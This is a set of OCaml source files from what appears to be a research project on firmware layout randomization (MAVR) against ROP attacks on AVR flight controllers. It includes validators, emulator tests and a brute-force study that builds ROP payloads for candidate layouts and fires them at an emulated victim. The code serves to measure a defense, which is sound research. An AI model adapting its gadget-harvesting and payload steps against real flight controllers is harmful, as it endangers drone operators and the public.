      let dsp =
        match mem "dispatch" j with
        | Some (J.Obj _ as o) -> o
        | Some _ -> fail "%s: dispatch detail is not an object" ctx
        | None -> fail "%s: missing dispatch detail" ctx
      in
      let geti k =
        match int k dsp with Some v -> v | None -> fail "%s: dispatch.%s missing" ctx k
      in
      let shards = geti "shards" and sd = geti "shards_done" in
      let sq = geti "shards_queued" and sa = geti "shards_active" in
      let workers = geti "workers" and wd = geti "workers_dead" in
      let re = geti "redispatches" in
      if !shards0 < 0 then shards0 := shards
      else if shards <> !shards0 then
        fail "%s: shard count changed (%d after %d)" ctx shards !shards0;
      if !workers0 < 0 then workers0 := workers
      else if workers <> !workers0 then
        fail "%s: worker count changed (%d after %d)" ctx workers !workers0;
      if sd < !last_sd then fail "%s: shards_done went backwards (%d after %d)" ctx sd !last_sd;
      if sd > shards then fail "%s: shards_done %d exceeds %d shards" ctx sd shards;
      if wd < !last_dead then
        fail "%s: workers_dead went backwards (%d after %d)" ctx wd !last_dead;
      if wd > workers then fail "%s: workers_dead %d exceeds %d workers" ctx wd workers;
      if re < !last_re then
        fail "%s: redispatches went backwards (%d after %d)" ctx re !last_re;
      if sq < 0 || sa < 0 || sa > workers then
        fail "%s: implausible queue/active counts (%d queued, %d active)" ctx sq sa;
      last_sd := sd;
      last_dead := wd;
      last_re := re)
    lines;
  if !last_sd <> !shards0 then fail "final line reports %d/%d shards done" !last_sd !shards0;
  Printf.printf "dispatch ok: %d lines, %d/%d tasks, %d shards over %d workers (%d dead, %d redispatches)\n"
    n d total !shards0 !workers0 !last_dead !last_re

(* ---- checkpoint / results validation ---------------------------------- *)

(* Structural scan shared by --checkpoint (partial frontier allowed) and
   --results (full coverage required).  Mirrors lib/campaign/checkpoint.ml
   as an independent implementation, so the two cross-check each other. *)
let checkpoint_version = 1

let scan_checkpoint lines =
  let header, rest =
    match lines with [] -> fail "empty checkpoint/results file" | h :: rest -> (h, rest)
  in
  let hj = match J.of_string header with Ok j -> j | Error e -> fail "header: %s" e in
  if str "kind" hj <> Some "header" then fail "first line is not a header";
  (match int "version" hj with
  | Some v when v = checkpoint_version -> ()
  | Some v -> fail "checkpoint version %d, expected %d" v checkpoint_version
  | None -> fail "header missing version");
  (match str "spec_hash" hj with Some _ -> () | None -> fail "header missing spec_hash");
  (match int "seed" hj with Some _ -> () | None -> fail "header missing seed");
  let tasks =
    match int "tasks" hj with
    | Some t when t >= 0 -> t
    | Some t -> fail "header has negative task count %d" t
    | None -> fail "header missing tasks"
  in
  let seen = Hashtbl.create 256 in
  let recorded = ref 0 and skipped = ref 0 in
  List.iteri
    (fun i line ->
      let ctx = Printf.sprintf "line %d" (i + 2) in
      let j = match J.of_string line with Ok j -> j | Error e -> fail "%s: %s" ctx e in
      let index =
        match int "index" j with
        | Some x when x >= 0 && x < tasks -> x
        | Some x -> fail "%s: index %d out of range [0,%d)" ctx x tasks
        | None -> fail "%s: missing index" ctx
      in
      if Hashtbl.mem seen index then fail "%s: duplicate index %d" ctx index;
      Hashtbl.add seen index ();
      match str "kind" j with
      | Some "task" -> (
          match mem "result" j with
          | Some _ -> incr recorded
          | None -> fail "%s: task entry without result" ctx)
      | Some "skip" -> (
          match str "reason" j with
          | Some _ -> incr skipped
          | None -> fail "%s: skip entry without reason" ctx)
      | Some k -> fail "%s: unknown kind %S" ctx k
      | None -> fail "%s: missing kind" ctx)
    rest;
  (tasks, !recorded, !skipped)

let validate_checkpoint path =
  let tasks, recorded, skipped = scan_checkpoint (jsonl_lines path) in
  Printf.printf "checkpoint ok: %d/%d tasks on disk (%d results, %d skips)\n"
    (recorded + skipped) tasks recorded skipped

let validate_results path =
  let tasks, recorded, skipped = scan_checkpoint (jsonl_lines path) in
  (* A results stream is a complete audit trail: every index accounted
     for, either as a trial outcome or an explicit early-stop skip. *)
  if recorded + skipped <> tasks then
    fail "results cover %d of %d tasks (%d results, %d skips) — stream has gaps"
      (recorded + skipped) tasks recorded skipped;
  Printf.printf "results ok: %d tasks (%d results, %d skips)\n" tasks recorded skipped

(* ---- serve transcript validation -------------------------------------- *)

let split_serve_lines path =
  let lines = jsonl_lines path in
  match List.rev lines with
  | [] -> fail "empty serve transcript"
  | last :: rev_heartbeats -> (List.rev rev_heartbeats, last)

let validate_serve path =
  let heartbeats, last = split_serve_lines path in
  let n, d, total, reason =
    if heartbeats = [] then (0, 0, 0, "final") else check_progress_lines heartbeats
  in
  let lj = match J.of_string last with Ok j -> j | Error e -> fail "terminal line: %s" e in
  (match str "kind" lj with
  | Some "result" -> (
      (* A successful session's heartbeat stream obeys the same contract
         as --progress: it ends final, with every task done. *)
      if heartbeats <> [] && reason <> "final" then
        fail "heartbeats end with reason %S, expected \"final\"" reason;
      if d <> total then fail "final heartbeat reports %d/%d tasks" d total;
      match mem "result" lj with
      | Some _ -> ()
      | None -> fail "terminal result line without a result member")
  | Some "error" -> (
      match str "error" lj with
      | Some _ -> ()
      | None -> fail "terminal error line without an error message")
  | Some k -> fail "terminal line has kind %S, expected result or error" k
  | None -> fail "terminal line missing kind (session truncated mid-stream?)");
  Printf.printf "serve ok: %d heartbeat lines + terminal %s\n" n
    (Option.value ~default:"?" (str "kind" lj))

let serve_result path =
  let _, last = split_serve_lines path in
  let lj = match J.of_string last with Ok j -> j | Error e -> fail "terminal line: %s" e in
  match (str "kind" lj, mem "result" lj) with
  | Some "result", Some r -> print_endline (J.to_string ~indent:2 r)
  | Some "error", _ ->
      fail "session failed: %s" (Option.value ~default:"(no message)" (str "error" lj))
  | _ -> fail "terminal line is not a result"

(* ---- analyze document validation ------------------------------------- *)

let analyze_schema_version = 2

(* A stack bound serializes as an int (finite) or {"unbounded": why}. *)
let check_bound ctx = function
  | Some (J.Int _) -> ()
  | Some (J.Obj _ as o) -> (
      match str "unbounded" o with
      | Some _ -> ()
      | None -> fail "%s: object bound without an unbounded reason" ctx)
  | Some _ -> fail "%s: bound is neither int nor object" ctx
  | None -> fail "%s: missing" ctx

let validate_analyze path =
  let doc =
    match J.of_string (read_file path) with Ok j -> j | Error e -> fail "%s: %s" path e
  in
  (match int "schema" doc with
  | Some v when v = analyze_schema_version -> ()
  | Some v -> fail "analyze schema version %d, expected %d" v analyze_schema_version
  | None -> fail "missing schema version");
  (match str "profile" doc with Some _ -> () | None -> fail "missing profile");
  (match str "toolchain" doc with
  | Some ("mavr" | "stock" | "patched") -> ()
  | Some t -> fail "unknown toolchain %S" t
  | None -> fail "missing toolchain");
  let section name =
    match mem name doc with
    | Some (J.Obj _ as o) -> Some o
    | Some _ -> fail "%s is not an object" name
    | None -> None
  in
  let require name =
    match section name with Some o -> o | None -> fail "missing %s section" name
  in
  let ints o oname keys =
    List.iter
      (fun k -> match int k o with Some _ -> () | None -> fail "%s.%s missing" oname k)
      keys
  in
  ints (require "cfg") "cfg"
    [ "entries"; "reachable_insns"; "reachable_bytes"; "exec_bytes"; "blocks";
      "sweep_insns"; "sweep_bytes" ];
  ints (require "gadgets") "gadgets" [ "total" ];
  ignore (require "census");
  let sections = ref [ "cfg"; "gadgets"; "census" ] in
  Option.iter
    (fun stack ->
      sections := "stack" :: !sections;
      ints stack "stack" [ "entries"; "iterations" ];
      List.iter
        (fun k -> check_bound ("stack." ^ k) (mem k stack))
        [ "main_total"; "isr_extra"; "image_bound" ])
    (section "stack");
  Option.iter
    (fun taint ->
      sections := "taint" :: !sections;
      ints taint "taint" [ "iterations"; "nodes" ];
      match mem "findings" taint with
      | Some (J.List fs) ->
          List.iteri
            (fun i f ->
              let ctx = Printf.sprintf "taint.findings[%d]" i in
              (match str "fn" f with Some _ -> () | None -> fail "%s: missing fn" ctx);
              ints f ctx [ "branch_addr"; "store_addr" ];
              match str "detail" f with Some _ -> () | None -> fail "%s: missing detail" ctx)
            fs
      | _ -> fail "taint.findings missing or not a list")
    (section "taint");
  Option.iter
    (fun tv ->
      sections := "translation_validation" :: !sections;
      match mem "ok" tv with
      | Some (J.Bool true) -> (
          match mem "stats" tv with
          | Some (J.Obj _ as s) ->
              ints s "translation_validation.stats"
                [ "functions"; "insns"; "edges"; "funptrs"; "vectors" ]
          | _ -> fail "translation_validation ok without stats")
      | Some (J.Bool false) -> (
          match mem "mismatches" tv with
          | Some (J.List (_ :: _)) -> ()
          | _ -> fail "translation_validation failed without mismatches")
      | _ -> fail "translation_validation.ok missing")
    (section "translation_validation");
  Option.iter
    (fun sv ->
      sections := "stack_verify" :: !sections;
      ints sv "stack_verify" [ "ms"; "stack_top" ];
      check_bound "stack_verify.static_bound" (mem "static_bound" sv);
      match mem "ok" sv with
      | Some (J.Bool _) -> ()
      | _ -> fail "stack_verify.ok missing")
    (section "stack_verify");
  Printf.printf "analyze ok: schema %d, sections %s\n" analyze_schema_version
    (String.concat "," (List.rev !sections))

let () =
  match Sys.argv with
  | [| _; "--progress"; path |] -> validate_progress path
  | [| _; "--dispatch"; path |] -> validate_dispatch path
  | [| _; "--analyze"; path |] -> validate_analyze path
  | [| _; "--checkpoint"; path |] -> validate_checkpoint path
  | [| _; "--results"; path |] -> validate_results path
  | [| _; "--serve"; path |] -> validate_serve path
  | [| _; "--serve-result"; path |] -> serve_result path
  | [| _; "--strip"; path |] | [| _; path |] ->
      let strip = Sys.argv.(1) = "--strip" in
      let doc =
        match J.of_string (read_file path) with Ok j -> j | Error e -> fail "%s: %s" path e
      in
      let events = validate_trace doc in
      if strip then print_endline (J.to_string (strip_trace doc events))
      else Printf.printf "trace ok: %d events\n" (List.length events)
  | _ ->
      prerr_endline
        "usage: trace_check [--strip] FILE | trace_check (--progress | --dispatch | \
         --analyze | --checkpoint | --results | --serve | --serve-result) FILE";
      exit 2
