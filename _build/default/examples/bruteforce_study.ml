(* Empirical validation of the paper's brute-force analysis (§V-D,
   §VII-A1) on real firmware images.

   The attacker must guess the layout permutation.  To keep the space
   enumerable we let the defender shuffle only K = 3 designated functions
   (the remaining blocks stay put), giving K! equally likely layouts;
   the attacker precomputes the attack payload for every candidate
   layout and probes the victim.  We measure the mean number of probes
   until takeover for:

     - a STATIC defender (software-only §VIII-A): one fixed layout,
       attacker eliminates candidates       -> E = (K!+1)/2
     - the MAVR defender: re-randomizes after every failed probe
                                            -> E = K!

     dune exec examples/bruteforce_study.exe
*)

module Cpu = Mavr_avr.Cpu
module Image = Mavr_obj.Image
module Rop = Mavr_core.Rop
module Randomize = Mavr_core.Randomize
module Security = Mavr_core.Security
module Rng = Mavr_prng.Splitmix
module Layout = Mavr_firmware.Layout

let k = 3 (* permuted functions: K! = 6 layouts *)

(* All permutations of a small list. *)
let rec permutations = function
  | [] -> [ [] ]
  | l ->
      List.concat_map
        (fun x -> List.map (fun p -> x :: p) (permutations (List.filter (( <> ) x) l)))
        l

let () =
  print_endline "== Brute-force effort study (paper §V-D) ==\n";
  let build =
    Mavr_firmware.Build.build (Mavr_firmware.Profile.tiny ~n:60 ~seed:77)
      Mavr_firmware.Profile.mavr
  in
  let img = build.image in
  let n = Image.function_count img in

  (* The K functions the defender shuffles.  They must include the
     gadget-bearing blocks (handle_param_set / param_store), otherwise
     every layout exposes the same gadget addresses and one probe wins. *)
  let index_of name =
    let rec go i = function
      | [] -> failwith (name ^ " not in image")
      | (s : Image.symbol) :: rest -> if s.name = name then i else go (i + 1) rest
    in
    go 0 img.Image.symbols
  in
  let layouts_for chosen =
    let orders =
      List.map
        (fun perm ->
          let order = Array.init n (fun i -> i) in
          List.iteri (fun slot idx -> order.(List.nth chosen slot) <- idx) perm;
          order)
        (permutations chosen)
    in
    List.map (fun order -> Randomize.with_order img order) orders
  in
  let placements layouts =
    List.sort_uniq compare
      (List.map
         (fun l ->
           match Mavr_core.Gadget.locate_paper_gadgets l with
           | Some g -> (g.stk_move, g.write_mem)
           | None -> (-1, -1))
         layouts)
  in
  (* All three shuffled blocks are attack-relevant (the two gadget
     functions and their neighbour), so every one of the K! layouts
     exposes a distinct gadget placement; a fourth, attack-irrelevant
     block would alias placements (block prefixes are sets, not
     sequences). *)
  let layouts =
    layouts_for [ index_of "handle_msg"; index_of "handle_param_set"; index_of "param_store" ]
  in
  assert (List.length (placements layouts) = List.length layouts);
  Format.printf "layout space: %d candidate layouts (K = %d shuffled functions)@."
    (List.length layouts) k;
  Format.printf "distinct gadget placements among candidates: %d/%d@."
    (List.length (placements layouts))
    (List.length layouts);

  (* Precompute one attack per candidate layout (the attacker can build
     each candidate binary locally from the unprotected image). *)
  let attacks =
    List.map
      (fun candidate ->
        let ti =
          match Mavr_core.Gadget.locate_paper_gadgets candidate with
          | Some gadgets ->
              { Rop.image = candidate; gadgets; stage_addr = Layout.stage; vuln_msgid = 23;
                staging_msgid = 76 }
          | None -> failwith "gadgets missing in candidate"
        in
        let obs = Rop.observe ti in
        Rop.v2_stealthy ti obs
          ~writes:[ Rop.write_u16 obs ~addr:Layout.gyro_cfg ~value:0x4141 ~neighbour:0 ])
      layouts
  in
  print_endline "precomputed one stealthy payload per candidate layout.\n";

  let probe victim attack =
    let cpu = Cpu.create () in
    Cpu.load_program cpu victim.Image.code;
    ignore (Cpu.run cpu ~max_cycles:60_000);
    List.iter (Cpu.uart_send cpu) attack;
    ignore (Cpu.run cpu ~max_cycles:1_500_000);
    let v =
      Cpu.data_peek cpu Layout.gyro_cfg lor (Cpu.data_peek cpu (Layout.gyro_cfg + 1) lsl 8)
    in
    v = 0x4141
  in

  let layout_arr = Array.of_list layouts in
  let attack_arr = Array.of_list attacks in
  let nf = Array.length layout_arr in
  let trials = 40 in

  (* -------- static defender -------- *)
  let rng = Rng.create ~seed:1 in
  let total_static = ref 0 in
  for _ = 1 to trials do
    let secret = Rng.int rng nf in
    let victim = layout_arr.(secret) in
    let probe_order = Array.init nf (fun i -> i) in
    Rng.shuffle rng probe_order;
    let attempts = ref 0 in
    (try
       Array.iter
         (fun guess ->
           incr attempts;
           if probe victim attack_arr.(guess) then raise Exit)
         probe_order
     with Exit -> ());
    total_static := !total_static + !attempts
  done;
  let mean_static = float_of_int !total_static /. float_of_int trials in

  (* -------- MAVR (re-randomizing) defender -------- *)
  let rng = Rng.create ~seed:2 in
  let total_rr = ref 0 in
  for _ = 1 to trials do
    let attempts = ref 0 in
    let continue = ref true in
    while !continue do
      let secret = Rng.int rng nf in
      let guess = Rng.int rng nf in
      incr attempts;
      if probe layout_arr.(secret) attack_arr.(guess) then continue := false
      (* else: the master detected the failure and re-randomized *)
    done;
    total_rr := !total_rr + !attempts
  done;
  let mean_rr = float_of_int !total_rr /. float_of_int trials in

  let expected_static = float_of_int (Security.factorial_int k + 1) /. 2.0 in
  let expected_rr = float_of_int (Security.factorial_int k) in
  Format.printf "static defender:        measured %.1f probes, closed form (K!+1)/2 = %.1f@."
    mean_static expected_static;
  Format.printf "MAVR (re-randomizing):  measured %.1f probes, closed form K!       = %.1f@."
    mean_rr expected_rr;

  (* -------- scale the closed forms to the real applications -------- *)
  print_endline "\nscaled to the paper's applications (Table I):";
  List.iter
    (fun (name, syms) ->
      Format.printf "  %-11s %4d symbols -> %7.0f bits of layout entropy, E[brute force] has %d digits@."
        name syms
        (Security.entropy_bits ~n:syms)
        (Mavr_bignum.Nat.digits (Security.expected_attempts_rerandomizing ~n:syms)))
    [ ("Arduplane", 917); ("Arducopter", 1030); ("Ardurover", 800) ]
