(** Incremental MAVLink byte-stream parser.

    Decodes frames from an arbitrary chunking of the serial stream, the
    way a ground station (or the APM's software decoder, §II-C) consumes
    telemetry.  Resynchronizes on the start magic after garbage and keeps
    link-quality statistics used by the anomaly detector. *)

type stats = {
  frames_ok : int;
  crc_errors : int;
  bytes_dropped : int;  (** garbage bytes skipped while hunting for magic *)
}

type t

val create : ?crc_extra_of:(int -> int) -> unit -> t

(** [feed t bytes] consumes a chunk and returns the frames completed by
    it, in order. *)
val feed : t -> string -> Frame.t list

val stats : t -> stats

(** Bytes currently buffered waiting for a complete frame. *)
val pending : t -> int

(** [attach_metrics ?prefix t registry] exports the link-quality counters
    ([<prefix>.frames_ok], [.crc_errors], [.bytes_dropped],
    [.bytes_pending]; default prefix ["mavlink"]) as sampled gauges —
    read at snapshot time, zero cost on the parse path. *)
val attach_metrics : ?prefix:string -> t -> Mavr_telemetry.Metrics.registry -> unit
