module Rng = Mavr_prng.Splitmix
module Cpu = Mavr_avr.Cpu
module Io = Mavr_avr.Device.Io

type reading = { gyro_x_raw : int; accel_x_raw : int; baro_alt_cm : int }

type t = {
  rng : Rng.t;
  gyro_noise : float;
  accel_noise : float;
  baro_noise : float;
  mutable gyro_bias : float;
  mutable accel_bias : float;
}

let create ?(gyro_noise = 3.0) ?(accel_noise = 8.0) ?(baro_noise = 15.0) ~seed () =
  { rng = Rng.create ~seed; gyro_noise; accel_noise; baro_noise; gyro_bias = 0.0; accel_bias = 0.0 }

(* Symmetric triangular noise in [-mag, mag] (sum of two uniforms): cheap
   and bounded, unlike a true Gaussian. *)
let noise t mag =
  let u () = float_of_int (Rng.int t.rng 10_000) /. 10_000.0 in
  mag *. (u () +. u () -. 1.0)

let drift t bias mag =
  (* A bounded random walk: the slow bias wander of MEMS parts. *)
  let b = bias +. noise t (mag /. 50.0) in
  Float.max (-.mag) (Float.min mag b)

let to_i16_raw v =
  let raw = int_of_float (Float.round v) in
  max (-32768) (min 32767 raw) land 0xFFFF

let sample t (s : Dynamics.state) =
  t.gyro_bias <- drift t t.gyro_bias t.gyro_noise;
  t.accel_bias <- drift t t.accel_bias t.accel_noise;
  let gyro = (s.roll_rate *. 1000.0) +. t.gyro_bias +. noise t t.gyro_noise in
  (* Forward acceleration ~ pitch attitude in steady flight (1000 LSB/g). *)
  let accel = (s.pitch *. 1000.0) +. t.accel_bias +. noise t t.accel_noise in
  let baro = (s.altitude_m *. 100.0) +. noise t t.baro_noise in
  {
    gyro_x_raw = to_i16_raw gyro;
    accel_x_raw = to_i16_raw accel;
    baro_alt_cm = int_of_float (Float.round baro);
  }

let write_to_cpu r cpu =
  Cpu.io_poke cpu Io.gyro_lo (r.gyro_x_raw land 0xFF);
  Cpu.io_poke cpu Io.gyro_hi ((r.gyro_x_raw lsr 8) land 0xFF);
  Cpu.io_poke cpu Io.accel_lo (r.accel_x_raw land 0xFF);
  Cpu.io_poke cpu Io.accel_hi ((r.accel_x_raw lsr 8) land 0xFF)
