lib/prng/splitmix.mli:
