test/test_security.mli:
