(** Gadget-survival census and static payload feasibility (§VII).

    The paper's mitigation argument is statistical: after software
    diversification, the gadget {e addresses} an attacker harvested from
    the unprotected image no longer decode to the same instruction
    sequences, so a prebuilt ROP payload fails.  This module measures
    that claim without executing anything:

    - {!gadget_survives}: does a single harvested gadget still decode to
      the same sequence at the same address in a candidate layout?
    - {!census}: across [layouts] randomized layouts, what fraction of
      the base image's gadgets survive, and in how many layouts does the
      full §IV payload stay feasible?
    - {!payload_feasible}: the static analogue of running the attack in
      the emulator — all three paper-gadget addresses must decode to the
      reference sequences. *)

(** [chain_at ?cap img addr] — the forward decode chain a return landing
    at byte address [addr] would execute: instructions up to and
    including the first [ret], capped at [cap] (default 24).  Total at
    the image edge: a truncated two-word instruction decodes as [Data]
    per [Decode.decode_bytes]'s contract, and the chain stops at the last
    word without reading past the image. *)
val chain_at : ?cap:int -> Mavr_obj.Image.t -> int -> Mavr_avr.Isa.t list

(** [gadget_survives ~candidate g] — the decode chain at [g.byte_addr]
    in [candidate] still matches [g.insns] exactly. *)
val gadget_survives : candidate:Mavr_obj.Image.t -> Mavr_core.Gadget.t -> bool

(** [payload_feasible ~reference ~gadgets candidate] — static verdict on
    whether a §IV payload built against [reference] (with the harvested
    [gadgets] addresses) would still find its gadgets in [candidate].
    [Error] names the first gadget whose decode diverges. *)
val payload_feasible :
  reference:Mavr_obj.Image.t ->
  gadgets:Mavr_core.Gadget.paper_gadgets ->
  Mavr_obj.Image.t ->
  (unit, string) result

(** How the census draws its per-layout randomization seeds.

    [Root s] (the default, with [s = 0]) splits [layouts] independent
    63-bit seeds off the root via {!Mavr_campaign.Engine.task_seeds}:
    two censuses with different roots measure disjoint layout samples,
    and none of the seeds collide with the small hand-picked seeds
    (1, 2, 7, ...) used throughout the tests and examples.

    [Legacy] reproduces the pre-campaign behaviour — layout [i] gets
    seed [i + 1] — which silently re-ran exactly those hand-picked
    layouts; it is kept only so the PR-3 EXPERIMENTS numbers remain
    reproducible bit-for-bit. *)
type seeding = Legacy | Root of int

type t = {
  layouts : int;  (** number of randomized layouts measured *)
  layout_seeds : int array;  (** the per-layout randomization seeds used *)
  base_gadgets : int;  (** gadget count on the base image *)
  survivors_per_layout : int array;  (** per-layout surviving-gadget count *)
  mean_survival_rate : float;  (** mean survivors / base_gadgets, in [0,1] *)
  max_survival_rate : float;
  feasible_layouts : int;  (** layouts where {!payload_feasible} holds *)
}

(** [census ?max_len ?seed ?jobs ?pool ~layouts image] randomizes
    [layouts] layouts (seeds per [?seed], default [Root 0]) and measures
    which of the base image's gadgets survive at their harvested
    addresses in each layout.  [feasible_layouts] counts layouts where
    the full paper payload remains feasible (0 when the base image has no
    locatable paper gadgets).

    One campaign task per layout: pass [?pool] to reuse a running
    {!Mavr_campaign.Pool} (its job count applies), or [?jobs] to size a
    temporary one.  The result is bit-identical for any job count,
    including the sequential default.

    With [?tracer], each layout's randomize-and-measure body runs in a
    ["census.layout"] span on lane ["layout-NNNN"] (args: index, seed);
    with [?progress], [layouts] is added to the stream total and every
    layout completion ticks it.  Neither affects the result. *)
val census :
  ?max_len:int ->
  ?seed:seeding ->
  ?jobs:int ->
  ?pool:Mavr_campaign.Pool.t ->
  ?tracer:Mavr_telemetry.Span.tracer ->
  ?progress:Mavr_campaign.Progress.t ->
  layouts:int ->
  Mavr_obj.Image.t ->
  t

val to_json : t -> Mavr_telemetry.Json.t
val pp : Format.formatter -> t -> unit
