(** Whole-firmware builds.

    Composes the runtime kernel, the generated filler functions, the
    interrupt vectors, the early-flash rodata (vtable initializer and
    CRC_EXTRA table) and a rodata pad calibrated so the {e stock}
    toolchain build of each profile matches the paper's Table III code
    size.  The same pad is reused for the MAVR-toolchain build of the same
    profile, so size deltas reflect the toolchain flags alone. *)

type t = {
  image : Mavr_obj.Image.t;
  asm : Mavr_asm.Assembler.output;
  profile : Profile.t;
  toolchain : Profile.toolchain;
  pad_bytes : int;
}

(** Number of runtime-kernel functions included in every build. *)
val runtime_function_count : int

(** [build ?pad profile toolchain] assembles a firmware.  When [pad] is
    omitted it is computed so that the {e stock} build of [profile] hits
    [profile.target_size] (a stock dry-run is performed if needed). *)
val build : ?pad:int -> Profile.t -> Profile.toolchain -> t

(** [build_pair profile] is [(stock, mavr)] with a shared pad. *)
val build_pair : Profile.t -> t * t

(** [label t name] resolves an assembly label of the build — the
    attacker's view of the {e unprotected} binary (§IV-A).
    @raise Not_found when undefined. *)
val label : t -> string -> int

(** The paper's "number of functions" metric (Table I). *)
val function_count : t -> int

(** Code size in bytes (Table III). *)
val code_size : t -> int
