lib/mavr/preprocess.mli: Mavr_obj
