module Cpu = Mavr_avr.Cpu
module Isa = Mavr_avr.Isa
module Opcode = Mavr_avr.Opcode
module Device = Mavr_avr.Device
module Memory = Mavr_avr.Memory

(* Assemble a raw instruction list (no labels) and load it. *)
let load insns =
  let cpu = Cpu.create () in
  let code = String.concat "" (List.map Opcode.encode_bytes insns) in
  Cpu.load_program cpu code;
  cpu

let run_all cpu = ignore (Cpu.run cpu ~max_cycles:100_000)

let check_reg cpu r expected =
  Alcotest.(check int) (Printf.sprintf "r%d" r) expected (Cpu.reg cpu r)

let test_ldi_mov_add () =
  let cpu = load Isa.[ Ldi (16, 0x21); Ldi (17, 0x12); Mov (18, 16); Add (18, 17); Break ] in
  run_all cpu;
  check_reg cpu 16 0x21;
  check_reg cpu 18 0x33

let test_add_carry_flags () =
  let cpu = load Isa.[ Ldi (16, 0xFF); Ldi (17, 0x02); Add (16, 17); Break ] in
  run_all cpu;
  check_reg cpu 16 0x01;
  Alcotest.(check int) "carry set" 1 (Cpu.sreg cpu land 1);
  let cpu = load Isa.[ Ldi (16, 0x10); Ldi (17, 0x10); Add (16, 17); Break ] in
  run_all cpu;
  Alcotest.(check int) "carry clear" 0 (Cpu.sreg cpu land 1)

let test_sub_zero_flag () =
  let cpu = load Isa.[ Ldi (16, 0x42); Subi (16, 0x42); Break ] in
  run_all cpu;
  check_reg cpu 16 0;
  Alcotest.(check int) "Z set" 2 (Cpu.sreg cpu land 2)

let test_adc_16bit_chain () =
  (* 0x00FF + 0x0101 = 0x0200 through add/adc. *)
  let cpu =
    load
      Isa.[ Ldi (24, 0xFF); Ldi (25, 0x00); Ldi (18, 0x01); Ldi (19, 0x01);
            Add (24, 18); Adc (25, 19); Break ]
  in
  run_all cpu;
  check_reg cpu 24 0x00;
  check_reg cpu 25 0x02

let test_logic_ops () =
  let cpu =
    load Isa.[ Ldi (16, 0xF0); Ldi (17, 0x3C); And (16, 17); Ldi (18, 0x0F); Or (16, 18);
               Ldi (19, 0xFF); Eor (19, 16); Break ]
  in
  run_all cpu;
  check_reg cpu 16 0x3F;
  check_reg cpu 19 0xC0

let test_shifts () =
  let cpu = load Isa.[ Ldi (16, 0x81); Lsr 16; Break ] in
  run_all cpu;
  check_reg cpu 16 0x40;
  Alcotest.(check int) "carry from lsb" 1 (Cpu.sreg cpu land 1);
  let cpu = load Isa.[ Ldi (16, 0x81); Asr 16; Break ] in
  run_all cpu;
  check_reg cpu 16 0xC0

let test_swap_com_neg () =
  let cpu = load Isa.[ Ldi (16, 0xA5); Swap 16; Ldi (17, 0x0F); Com 17; Ldi (18, 1); Neg 18; Break ] in
  run_all cpu;
  check_reg cpu 16 0x5A;
  check_reg cpu 17 0xF0;
  check_reg cpu 18 0xFF

let test_mul () =
  let cpu = load Isa.[ Ldi (16, 200); Ldi (17, 100); Mul (16, 17); Break ] in
  run_all cpu;
  Alcotest.(check int) "product" 20000 (Cpu.reg cpu 0 lor (Cpu.reg cpu 1 lsl 8))

let test_stack_push_pop () =
  let cpu = load Isa.[ Ldi (16, 0xAB); Push 16; Ldi (16, 0); Pop 17; Break ] in
  let sp0 = Device.data_end Device.atmega2560 - 1 in
  run_all cpu;
  check_reg cpu 17 0xAB;
  Alcotest.(check int) "SP restored" sp0 (Cpu.sp cpu)

let test_sp_memory_mapped () =
  (* Writing SPL/SPH via out moves the stack pointer — the stk_move
     primitive the paper's attack pivots with. *)
  let cpu = load Isa.[ Ldi (28, 0x34); Ldi (29, 0x12); Out (0x3D, 28); Out (0x3E, 29); Break ] in
  run_all cpu;
  Alcotest.(check int) "SP = 0x1234" 0x1234 (Cpu.sp cpu)

let test_call_ret_3byte () =
  (* call pushes a 3-byte return address on the ATmega2560. *)
  let insns = Isa.[ Call 4; Break; (* pc 0,2(words): call occupies words 0-1; break at word 2 *)
                    Nop; Ldi (16, 0x77); Ret ] in
  (* layout (words): 0-1 call 4; 2 break; 3 nop; 4 ldi; 5 ret *)
  let cpu = load insns in
  let sp0 = Cpu.sp cpu in
  Cpu.step cpu (* call *);
  Alcotest.(check int) "SP dropped by 3" (sp0 - 3) (Cpu.sp cpu);
  Alcotest.(check int) "PC at target" 4 (Cpu.pc cpu);
  (* return address bytes: big-endian in memory, pointing at word 2 *)
  Alcotest.(check int) "ret hi" 0 (Cpu.data_peek cpu (sp0 - 2));
  Alcotest.(check int) "ret mid" 0 (Cpu.data_peek cpu (sp0 - 1));
  Alcotest.(check int) "ret lo" 2 (Cpu.data_peek cpu sp0);
  run_all cpu;
  check_reg cpu 16 0x77;
  Alcotest.(check int) "SP restored after ret" sp0 (Cpu.sp cpu)

let test_rcall_icall () =
  let cpu = load Isa.[ Ldi (30, 5); Ldi (31, 0); Icall; Break; Nop; Ldi (16, 9); Ret ] in
  run_all cpu;
  check_reg cpu 16 9

let test_branches () =
  (* breq skips the ldi when Z is set. *)
  let cpu = load Isa.[ Ldi (16, 1); Cpi (16, 1); Brbs (1, 1); Ldi (17, 0xEE); Break ] in
  run_all cpu;
  check_reg cpu 17 0;
  let cpu = load Isa.[ Ldi (16, 1); Cpi (16, 2); Brbs (1, 1); Ldi (17, 0xEE); Break ] in
  run_all cpu;
  check_reg cpu 17 0xEE

let test_cpse_skips_two_word () =
  (* cpse must skip a full 2-word instruction. *)
  let cpu = load Isa.[ Ldi (16, 5); Ldi (17, 5); Cpse (16, 17); Sts (0x500, 16); Ldi (18, 1); Break ] in
  run_all cpu;
  Alcotest.(check int) "sts skipped" 0 (Cpu.data_peek cpu 0x500);
  check_reg cpu 18 1

let test_data_space_ld_st () =
  let cpu =
    load
      Isa.[ Ldi (16, 0x5A); Sts (0x700, 16); Lds (17, 0x700);
            Ldi (26, 0x00); Ldi (27, 0x07); Ld (18, X); Break ]
  in
  run_all cpu;
  check_reg cpu 17 0x5A;
  check_reg cpu 18 0x5A

let test_displacement_and_pointers () =
  let cpu =
    load
      Isa.[ Ldi (28, 0x00); Ldi (29, 0x07); Ldi (16, 0x42); Std (Y, 3, 16);
            Ldd (17, Y, 3);
            Ldi (30, 0x00); Ldi (31, 0x07); Ldi (18, 0x24); St (Z_inc, 18); St (Z_inc, 18);
            Lds (19, 0x701); Break ]
  in
  run_all cpu;
  check_reg cpu 17 0x42;
  Alcotest.(check int) "st Z+ advanced" 0x24 (Cpu.reg cpu 19);
  Alcotest.(check int) "Z advanced twice" 0x702 (Cpu.reg cpu 30 lor (Cpu.reg cpu 31 lsl 8))

let test_registers_memory_mapped () =
  (* Storing to data address 5 IS register r5 — the property write_mem
     exploits. *)
  let cpu = load Isa.[ Ldi (16, 0x99); Sts (5, 16); Break ] in
  run_all cpu;
  check_reg cpu 5 0x99

let test_lpm_reads_flash () =
  let cpu = load Isa.[ Ldi (30, 0x00); Ldi (31, 0x00); Lpm (16, false); Break ] in
  run_all cpu;
